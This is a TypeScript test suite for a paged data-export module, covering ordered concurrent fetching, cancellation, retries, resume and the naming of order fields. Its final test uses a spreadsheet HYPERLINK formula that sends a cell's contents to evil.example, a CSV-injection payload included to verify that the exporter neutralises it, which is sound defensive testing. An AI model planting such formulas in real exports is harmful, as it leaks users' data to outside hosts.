// fetchAllRows: a whole result in pages, a few at a time, in order, with progress, cancel, a
// short page that ends it, and errors that leave nothing behind.
import { describe, expect, it } from "vitest";
import { receiveOrder } from "@/lib/ne/registry/resources/receive-order";
import { exportDocument, exportStep, fetchAllRows, fetchedRanges, fetchedRows, fieldNamers, namedRows, type ExportPages, type ExportRow } from "./export";

/** A page request the test answers by hand. */
interface Pending {
  offset: number;
  limit: number;
  signal: AbortSignal;
  resolve: (rows: ExportRow[]) => void;
  reject: (error: unknown) => void;
}

/** A fetchPage whose answers the test gives (in any order), recording what was asked and how many ran at once. */
function manualPages() {
  const pending: Pending[] = [];
  const asked: [number, number][] = [];
  let inFlight = 0;
  let most = 0;
  const fetchPage = (offset: number, limit: number, signal: AbortSignal) =>
    new Promise<ExportRow[]>((resolve, reject) => {
      asked.push([offset, limit]);
      inFlight += 1;
      most = Math.max(most, inFlight);
      const done = () => (inFlight -= 1);
      pending.push({
        offset,
        limit,
        signal,
        resolve: (rows) => {
          done();
          resolve(rows);
        },
        reject: (error) => {
          done();
          reject(error);
        },
      });
    });
  /** Answers the pending request at `offset` with `count` rows (default: its limit). */
  const answer = (offset: number, count?: number) => {
    const i = pending.findIndex((p) => p.offset === offset);
    if (i < 0) throw new Error(`no request pending at ${offset}`);
    const [p] = pending.splice(i, 1);
    p!.resolve(rowsAt(offset, count ?? p!.limit));
  };
  return { fetchPage, pending, asked, answer, most: () => most, inFlight: () => inFlight };
}

const rowsAt = (offset: number, count: number): ExportRow[] => Array.from({ length: count }, (_, i) => ({ id: String(offset + i) }));
const ids = (rows: ExportRow[]) => rows.map((r) => Number(r.id));
const range = (from: number, to: number) => Array.from({ length: to - from }, (_, i) => from + i);
/** Lets every settled promise run its callbacks. */
const flush = () => new Promise((r) => setTimeout(r, 0));

describe("fetchAllRows", () => {
  it("pages in steps up to the total (rows past a page's limit dropped) and reports progress", async () => {
    const calls: [number, number][] = [];
    const progress: number[] = [];
    const rows = await fetchAllRows({
      total: 25,
      step: 10,
      signal: new AbortController().signal,
      fetchPage: async (offset, limit) => {
        calls.push([offset, limit]);
        return rowsAt(offset, limit + 3);
      },
      onProgress: (done) => progress.push(done),
    });
    expect(calls).toEqual([[0, 10], [10, 10], [20, 5]]);
    expect(ids(rows)).toEqual(range(0, 25));
    expect(progress).toEqual([0, 10, 20, 25]);
  });

  it("keeps the rows in order whatever order the pages arrive in, and reports progress as they arrive", async () => {
    const pages = manualPages();
    const progress: [number, number][] = [];
    const run = fetchAllRows({ concurrency: 3, total: 50, step: 10, signal: new AbortController().signal, fetchPage: pages.fetchPage, onProgress: (d, t) => progress.push([d, t]) });
    expect(pages.asked).toEqual([[0, 10], [10, 10], [20, 10]]);
    pages.answer(20);
    await flush();
    pages.answer(10);
    await flush();
    pages.answer(40);
    await flush();
    pages.answer(0);
    await flush();
    pages.answer(30);
    const rows = await run;
    expect(ids(rows)).toEqual(range(0, 50));
    expect(progress).toEqual([[0, 50], [10, 50], [20, 50], [30, 50], [40, 50], [50, 50]]);
  });

  it("by default one page in flight, the next one starting as soon as it arrives", async () => {
    const pages = manualPages();
    const run = fetchAllRows({ total: 100_000, signal: new AbortController().signal, fetchPage: pages.fetchPage });
    expect(pages.inFlight()).toBe(1);
    for (let answered = 0; answered < 10; answered++) {
      pages.answer(pages.pending[0]!.offset);
      await flush();
      expect(pages.inFlight()).toBe(Math.min(1, 10 - answered - 1));
    }
    const rows = await run;
    expect(rows).toHaveLength(100_000);
    expect(ids(rows.slice(0, 3))).toEqual([0, 1, 2]);
    expect(Number(rows.at(-1)!.id)).toBe(99_999);
    expect(pages.most()).toBe(1);
    expect(pages.asked.map(([offset]) => offset)).toEqual(range(0, 10).map((i) => i * 10_000));
  });

  it("with more lanes, never more pages in flight than that, the next one starting as soon as one arrives", async () => {
    const pages = manualPages();
    const run = fetchAllRows({ concurrency: 3, total: 100_000, signal: new AbortController().signal, fetchPage: pages.fetchPage });
    expect(pages.inFlight()).toBe(3);
    for (let answered = 0; answered < 10; answered++) {
      // The oldest first, then one from the middle: either way a new page starts at once.
      const p = pages.pending[answered % 2 === 0 ? 0 : pages.pending.length - 1]!;
      pages.answer(p.offset);
      await flush();
      expect(pages.inFlight()).toBe(Math.min(3, 10 - answered - 1));
    }
    const rows = await run;
    expect(rows).toHaveLength(100_000);
    expect(pages.most()).toBe(3);
  });

  it("takes another bound, and fetches nothing for an empty result", async () => {
    const pages = manualPages();
    const run = fetchAllRows({ total: 45, step: 10, concurrency: 2, signal: new AbortController().signal, fetchPage: pages.fetchPage });
    expect(pages.inFlight()).toBe(2);
    while (pages.pending.length > 0) {
      pages.answer(pages.pending[0]!.offset);
      await flush();
    }
    expect(ids(await run)).toEqual(range(0, 45));
    expect(pages.most()).toBe(2);

    const none = manualPages();
    const progress: number[] = [];
    expect(await fetchAllRows({ total: 0, signal: new AbortController().signal, fetchPage: none.fetchPage, onProgress: (d) => progress.push(d) })).toEqual([]);
    expect(none.asked).toEqual([]);
    expect(progress).toEqual([0]);
  });

  it("a short page ends the result: later pages are cancelled and never included, even if they arrived first", async () => {
    const pages = manualPages();
    const progress: number[] = [];
    const run = fetchAllRows({ concurrency: 3, total: 60, step: 10, signal: new AbortController().signal, fetchPage: pages.fetchPage, onProgress: (d) => progress.push(d) });
    pages.answer(20); // a later page arrives first (full)
    await flush();
    const third = pages.pending.find((p) => p.offset === 30)!;
    pages.answer(0);
    await flush();
    pages.answer(10, 4); // short: the result ends at 14 rows
    await flush();
    expect(third.signal.aborted).toBe(true);
    const rows = await run;
    expect(ids(rows)).toEqual(range(0, 14));
    expect(progress.at(-1)).toBe(14);
    // Nothing after the short page was asked for once it came back.
    expect(pages.asked.map(([offset]) => offset)).toEqual([0, 10, 20, 30, 40]);
    // A cancelled later page failing afterwards changes nothing.
    for (const p of pages.pending.splice(0)) p.reject(new DOMException("aborted", "AbortError"));
    await flush();
  });

  it("a short page waits for the pages before it", async () => {
    const pages = manualPages();
    const run = fetchAllRows({ concurrency: 3, total: 30, step: 10, signal: new AbortController().signal, fetchPage: pages.fetchPage });
    let result: ExportRow[] | undefined;
    void run.then((rows) => (result = rows));
    pages.answer(10, 3);
    await flush();
    expect(result).toBeUndefined();
    pages.answer(0);
    expect(ids(await run)).toEqual(range(0, 13));
  });

  it("cancel stops every page in flight and rejects at once, even if a page ignores its signal", async () => {
    const pages = manualPages();
    const controller = new AbortController();
    const run = fetchAllRows({ concurrency: 3, total: 100, step: 10, signal: controller.signal, fetchPage: pages.fetchPage });
    pages.answer(0);
    await flush();
    expect(pages.pending.map((p) => p.signal.aborted)).toEqual([false, false, false]);
    controller.abort();
    await expect(run).rejects.toMatchObject({ name: "AbortError" });
    expect(pages.pending.every((p) => p.signal.aborted)).toBe(true);
    // Answers after the cancel start nothing more.
    const asked = pages.asked.length;
    for (const p of pages.pending.splice(0)) p.resolve(rowsAt(p.offset, p.limit));
    await flush();
    expect(pages.asked).toHaveLength(asked);
  });

  it("stops when cancelled from inside a page, and does not start when already cancelled", async () => {
    const controller = new AbortController();
    const run = fetchAllRows({
      total: 100,
      step: 10,
      signal: controller.signal,
      fetchPage: async (offset, limit) => {
        if (offset === 10) controller.abort();
        return rowsAt(offset, limit);
      },
    });
    await expect(run).rejects.toThrow(/cancelled/);
    let asked = 0;
    await expect(fetchAllRows({ total: 10, signal: controller.signal, fetchPage: async () => (asked++, []) })).rejects.toMatchObject({ name: "AbortError" });
    expect(asked).toBe(0);
  });

  it("a failed page rejects with its error, stops the others and starts no more", async () => {
    const pages = manualPages();
    const progress: number[] = [];
    const run = fetchAllRows({ concurrency: 3, total: 100, step: 10, signal: new AbortController().signal, fetchPage: pages.fetchPage, onProgress: (d) => progress.push(d) });
    pages.answer(0);
    await flush();
    const failing = pages.pending.find((p) => p.offset === 20)!;
    pages.pending.splice(pages.pending.indexOf(failing), 1);
    failing.reject(new Error("upstream said no"));
    await expect(run).rejects.toThrow("upstream said no");
    expect(pages.pending.every((p) => p.signal.aborted)).toBe(true);
    const asked = pages.asked.length;
    for (const p of pages.pending.splice(0)) p.resolve(rowsAt(p.offset, p.limit));
    await flush();
    expect(pages.asked).toHaveLength(asked);
    expect(progress).toEqual([0, 10]);
  });

  it("a page that throws before it returns a promise is a failed page", async () => {
    const run = fetchAllRows({
      total: 30,
      step: 10,
      signal: new AbortController().signal,
      fetchPage: (offset) => {
        if (offset === 10) throw new Error("bad request");
        return Promise.resolve(rowsAt(offset, 10));
      },
    });
    await expect(run).rejects.toThrow("bad request");
  });
});

describe("fetchAllRows: retries, and an export that stopped", () => {
  it("tries a failed page again after the delay the policy gives, up to its limit, keeping the others", async () => {
    const tries = new Map<number, number>();
    const policy: [number, string][] = [];
    const rows = await fetchAllRows({
      total: 30,
      step: 10,
      signal: new AbortController().signal,
      retry: (failures, error) => (policy.push([failures, String(error)]), failures < 2 ? 1 : null),
      fetchPage: async (offset, limit) => {
        const n = (tries.get(offset) ?? 0) + 1;
        tries.set(offset, n);
        if (offset === 10 && n <= 2) throw new Error(`busy ${n}`);
        return rowsAt(offset, limit);
      },
    });
    expect(ids(rows)).toEqual(range(0, 30));
    expect(Object.fromEntries(tries)).toEqual({ 0: 1, 10: 3, 20: 1 });
    expect(policy).toEqual([[0, "Error: busy 1"], [1, "Error: busy 2"]]);
  });

  it("gives up when the policy says so: rejects with the page's error, and the pages that arrived stay in `pages`", async () => {
    const pages: ExportPages = [];
    const calls: number[] = [];
    const run = fetchAllRows({
      total: 45,
      step: 10,
      concurrency: 1,
      pages,
      signal: new AbortController().signal,
      retry: (failures) => (failures < 1 ? 0 : null),
      fetchPage: async (offset, limit) => {
        calls.push(offset);
        if (offset === 20) throw new Error("still failing");
        return rowsAt(offset, limit);
      },
    });
    await expect(run).rejects.toThrow("still failing");
    expect(calls).toEqual([0, 10, 20, 20]);
    expect(pages).toHaveLength(5);
    expect(ids(fetchedRows(pages))).toEqual(range(0, 20));
  });

  it("resumes with only the missing pages, and reports the kept rows as done from the start", async () => {
    const pages: ExportPages = [rowsAt(0, 10), undefined, rowsAt(20, 10), undefined, undefined];
    const calls: number[] = [];
    const progress: number[] = [];
    const rows = await fetchAllRows({
      total: 45,
      step: 10,
      pages,
      signal: new AbortController().signal,
      onProgress: (done) => progress.push(done),
      fetchPage: async (offset, limit) => (calls.push(offset), rowsAt(offset, limit)),
    });
    expect(calls.sort((a, b) => a - b)).toEqual([10, 30, 40]);
    expect(ids(rows)).toEqual(range(0, 45));
    expect(progress[0]).toBe(20);
    expect(progress.at(-1)).toBe(45);
  });

  it("a resumed export whose pages are all in fetches nothing; a result cut short stays cut", async () => {
    let asked = 0;
    const fetchPage = async () => (asked++, []);
    const pages: ExportPages = [rowsAt(0, 10), rowsAt(10, 4)];
    expect(ids(await fetchAllRows({ total: 45, step: 10, pages, signal: new AbortController().signal, fetchPage }))).toEqual(range(0, 14));
    expect(asked).toBe(0);
  });

  it("a wait before another try ends at once on cancel", async () => {
    const controller = new AbortController();
    let asked = 0;
    const run = fetchAllRows({
      total: 10,
      step: 10,
      signal: controller.signal,
      retry: () => 60_000,
      fetchPage: async () => {
        asked++;
        throw new Error("busy");
      },
    });
    await flush();
    controller.abort();
    await expect(run).rejects.toMatchObject({ name: "AbortError" });
    expect(asked).toBe(1);
  });
});

describe("exportStep", () => {
  it("splits a result into three pages at least, of 1,000 to 10,000 rows", () => {
    expect(exportStep(0)).toBe(1_000);
    expect(exportStep(2_500)).toBe(1_000);
    expect(exportStep(4_250)).toBe(1_417);
    expect(exportStep(8_938)).toBe(2_980);
    expect(exportStep(30_000)).toBe(10_000);
    expect(exportStep(250_000)).toBe(10_000);
  });
});

describe("fetchedRanges: which rows of the file an export that stopped holds", () => {
  const pages: ExportPages = [rowsAt(0, 10), undefined, rowsAt(20, 10), rowsAt(30, 10), undefined];
  it("oldest first: as the API numbers them, from 1, merged", () => {
    expect(fetchedRanges(pages, 45, "asc", 10)).toEqual([
      [1, 10],
      [21, 40],
    ]);
  });
  it("newest first: counted from the newest row", () => {
    expect(fetchedRanges(pages, 45, "desc", 10)).toEqual([
      [6, 25],
      [36, 45],
    ]);
  });
  it("a short last page ends the result; nothing fetched is no range", () => {
    expect(fetchedRanges([undefined, rowsAt(10, 3)], 45, "desc", 10)).toEqual([[1, 3]]);
    expect(fetchedRanges([undefined, undefined], 15, "asc", 10)).toEqual([]);
  });
});

describe("names in an export (what the screen shows)", () => {
  const fieldsByName = new Map(receiveOrder.fields.map((f) => [f.name, f]));
  const pick = (...names: string[]) => names.map((n) => fieldsByName.get(`receive_order_${n}`)!);
  const rows: ExportRow[] = [
    { receive_order_id: "7", receive_order_shop_id: "1", receive_order_order_status_id: "50", receive_order_payment_method_id: "1", receive_order_delivery_id: "8", receive_order_delivery_name: "店頭受取", receive_order_cancel_type_id: "0", receive_order_cancel_type_name: "有効な受注です。" },
    { receive_order_id: "8", receive_order_shop_id: "99", receive_order_order_status_id: "", receive_order_payment_method_id: null, receive_order_delivery_id: "2", receive_order_delivery_name: null, receive_order_cancel_type_id: "1", receive_order_cancel_type_name: "お客様都合によるキャンセル" },
  ];
  const fields = pick("id", "shop_id", "order_status_id", "payment_method_id", "delivery_id", "cancel_type_id");
  const rowNames = { receive_order_delivery_id: "receive_order_delivery_name", receive_order_cancel_type_id: "receive_order_cancel_type_name" };
  const lists = { receive_order_shop_id: new Map([["1", "本店"]]), receive_order_payment_method_id: new Map([["1", "代金引換"]]) };

  it("writes the row's own names, the registry's labels in the person's language and the lists' names", () => {
    const namers = fieldNamers(fields, "ja", rowNames, lists);
    expect(Object.keys(namers).sort()).toEqual(["receive_order_cancel_type_id", "receive_order_delivery_id", "receive_order_order_status_id", "receive_order_payment_method_id", "receive_order_shop_id"]);
    expect(namers.receive_order_delivery_id?.needs).toEqual(["receive_order_delivery_name"]);
    const [first] = namedRows(rows, namers);
    expect(first).toMatchObject({
      receive_order_id: "7",
      receive_order_shop_id: "本店",
      receive_order_order_status_id: "出荷確定済（完了）",
      receive_order_payment_method_id: "代金引換",
      receive_order_delivery_id: "店頭受取",
      receive_order_cancel_type_id: "有効な受注です。",
    });
    expect(namedRows(rows, fieldNamers(fields, "en", rowNames, lists))[0]?.receive_order_order_status_id).toBe("Shipment confirmed (complete)");
  });

  it("writes a custom cell's words where the grid draws one (the cancel state: 有効, not the row's 有効な受注です。)", () => {
    const cancel = { needs: ["receive_order_cancel_type_name"], text: (value: string, row: ExportRow) => (value === "0" ? "有効" : row.receive_order_cancel_type_name || "キャンセル") };
    const namers = fieldNamers(fields, "ja", rowNames, lists, { receive_order_cancel_type_id: cancel });
    expect(namers.receive_order_cancel_type_id?.needs).toEqual(["receive_order_cancel_type_name"]);
    const [first, second] = namedRows(rows, namers);
    expect(first?.receive_order_cancel_type_id).toBe("有効");
    expect(second?.receive_order_cancel_type_id).toBe("お客様都合によるキャンセル");
    // The others as before.
    expect(first?.receive_order_delivery_id).toBe("店頭受取");
  });

  it("keeps a code with no name known, and empty values empty; the rows given are not changed", () => {
    const [, second] = namedRows(rows, fieldNamers(fields, "ja", rowNames, lists));
    expect(second).toMatchObject({ receive_order_shop_id: "99", receive_order_order_status_id: "", receive_order_payment_method_id: null, receive_order_delivery_id: "2" });
    expect(rows[0]?.receive_order_shop_id).toBe("1");
  });

  it("names nothing without namers (codes)", () => {
    expect(namedRows(rows, {})).toEqual(rows);
  });

  it("neutralises a formula in a name, whatever the field's type, and keeps plain numbers numbers", () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&C2,"Open")';
    const named = namedRows(
      [{ ...rows[0], receive_order_shop_id: "1", receive_order_total_amount: "-120", receive_order_payment_method_id: "1" }],
      fieldNamers(fields, "ja", rowNames, { receive_order_shop_id: new Map([["1", evil]]), receive_order_payment_method_id: new Map([["1", "＠代引"]]) }),
    );
    const withAmount = [...fields, fieldsByName.get("receive_order_total_amount")!];
    // The shop id and the amount are numbers (N): a formula's start is neutralised whatever the field's type.
    expect(withAmount.map((f) => f.type)).toEqual(["N", "N", "S", "S", "S", "S", "N"]);
    const doc = exportDocument(named, withAmount, "names", "ja");
    expect(doc.header).toEqual(withAmount.map((f) => f.name));
    expect(doc.rows[0]).toEqual(["7", `'${evil}`, "出荷確定済（完了）", "'＠代引", "店頭受取", "有効な受注です。", "-120"]);
  });
});
